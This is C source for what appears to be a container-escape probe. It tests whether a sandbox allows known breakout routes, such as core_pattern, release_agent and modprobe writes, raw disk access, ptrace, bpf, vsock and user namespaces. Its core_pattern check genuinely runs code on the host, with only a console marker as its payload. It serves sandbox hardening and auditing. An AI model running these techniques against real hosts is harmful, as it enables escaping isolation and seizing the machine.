/* Tries known ways from a container to the machine, and says of each whether it is open: "escape WHO NAME yes|no".
 *
 *   escape WHO HANDLER     HANDLER: this program's path as the machine sees it
 *   escape taken           run by the kernel as a handler of core dumps, outside of all containers
 *
 * Nothing that it opens does harm; core_pattern is used as an attacker would, and says so on the machine's console. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/vm_sockets.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *handler;

static int put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    int works = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);
    if (fd >= 0)
        close(fd);
    return works;
}

static int core_pattern(void)
{
    char line[128];
    snprintf(line, sizeof(line), "|%s taken", handler);
    if (!put("/proc/sys/kernel/core_pattern", line))
        return 0;
    if (fork() == 0) {
        prctl(PR_SET_DUMPABLE, 1);
        signal(SIGSEGV, SIG_DFL);
        raise(SIGSEGV);
        _exit(0);
    }
    wait(NULL);
    return 1;
}

static int modprobe(void) { return put("/proc/sys/kernel/modprobe", "/sbin/modprobe"); }

static int release_agent(void)
{
    if (put("/sys/fs/cgroup/release_agent", ""))
        return 1;
    if (mount("none", "/mnt", "cgroup", 0, "none,name=escape") < 0)
        return 0;
    int works = put("/mnt/release_agent", "/none");
    return umount("/mnt") == 0 && works;
}

/* Kernels without the helper have the same way to write below /sys. */
static int uevent_helper(void)
{
    return put("/sys/kernel/uevent_helper", "\n") || put("/sys/module/printk/parameters/time", "Y");
}

static int sysrq(void) { return put("/proc/sysrq-trigger", "h"); }

static int kcore(void)
{
    char head[4] = "";
    int fd = open("/proc/kcore", O_RDONLY);
    return fd >= 0 && read(fd, head, 4) == 4 && memcmp(head, "\177ELF", 4) == 0;
}

static int raw_disk(void)
{
    char sector[512];
    static const int majors[] = {252, 253, 254, 8};
    for (size_t i = 0; i < sizeof(majors) / sizeof(*majors); i++) {
        unlink("/mnt/disk");
        if (mknod("/mnt/disk", S_IFBLK | 0600, makedev(majors[i], 0)) < 0)
            return 0;
        int fd = open("/mnt/disk", O_RDONLY);
        if (fd >= 0 && read(fd, sector, sizeof(sector)) == sizeof(sector))
            return 1;
    }
    return 0;
}

/* A process that is neither us nor of our making. */
static int neighbour(void)
{
    DIR *all = opendir("/proc");
    for (struct dirent *one; all && (one = readdir(all));) {
        int pid = atoi(one->d_name);
        if (pid > 0 && pid != getpid() && pid != getppid() && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            ptrace(PTRACE_DETACH, pid, 0, 0);
            return 1;
        }
    }
    return 0;
}

static int mounting(void)
{
    if (mount("none", "/mnt", "tmpfs", 0, "") == 0)
        return umount("/mnt") == 0;
    return unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0;
}

static int keys(void)
{
    return syscall(SYS_add_key, "user", "escape", "x", 1, -4 /* the user's keyring, which all containers share */) > 0 ||
           syscall(SYS_keyctl, 0 /* id of */, -4, 1) > 0;
}

static int bpf(void)
{
    uint32_t map[16] = {2 /* array */, 4, 4, 1};
    return syscall(SYS_bpf, 0 /* create a map */, map, sizeof(map)) >= 0;
}

static int vsock(void)
{
    if (socket(AF_VSOCK, SOCK_STREAM, 0) >= 0)
        return 1;
#ifdef __x86_64__
    /* The old way of 32-bit programs: socketcall(SYS_SOCKET, ...). */
    uint32_t *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    int made;
    args[0] = AF_VSOCK, args[1] = SOCK_STREAM, args[2] = 0;
    __asm__ volatile("int $0x80" : "=a"(made) : "a"(102), "b"(1), "c"(args) : "memory", "r8", "r9", "r10", "r11");
    return made >= 0;
#else
    return 0;
#endif
}

static int io_uring(void)
{
    char setup[120] = "";
    return syscall(SYS_io_uring_setup, 1, setup) >= 0;
}

static int clone_user(void)
{
    pid_t pid = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    if (pid > 0)
        return 1;
    uint64_t arguments[8] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD};
    pid = (pid_t)syscall(SYS_clone3, arguments, sizeof(arguments));
    if (pid == 0)
        _exit(0);
    return pid > 0;
}

static const struct probe {
    const char *name;
    int (*works)(void);
} probes[] = {
    {"modprobe", modprobe}, {"release_agent", release_agent}, {"uevent_helper", uevent_helper}, {"sysrq", sysrq},
    {"kcore", kcore},       {"raw_disk", raw_disk},           {"ptrace", neighbour},            {"mount", mounting},
    {"keyctl", keys},       {"bpf", bpf},                     {"vsock", vsock},                 {"io_uring", io_uring},
    {"userns", clone_user}, {"core_pattern", core_pattern},
};

int main(int argc, char **argv)
{
    if (argc > 1 && strcmp(argv[1], "taken") == 0) {
        char line[100];
        FILE *console = fopen("/dev/console", "w");
        snprintf(line, sizeof(line), "\nescape: the machine is taken, uid %d\n", (int)getuid());
        return console && fputs(line, console) >= 0 && fclose(console) == 0 ? 0 : 1;
    }
    handler = argc > 2 ? argv[2] : "";
    for (const struct probe *one = probes; one < probes + sizeof(probes) / sizeof(*probes); one++) {
        int status = 0;
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0)
            _exit(one->works() ? 0 : 1);
        waitpid(pid, &status, 0);
        printf("escape %s %s %s\n", argv[1], one->name, WIFEXITED(status) && !WEXITSTATUS(status) ? "yes" : "no");
    }
    return 0;
}
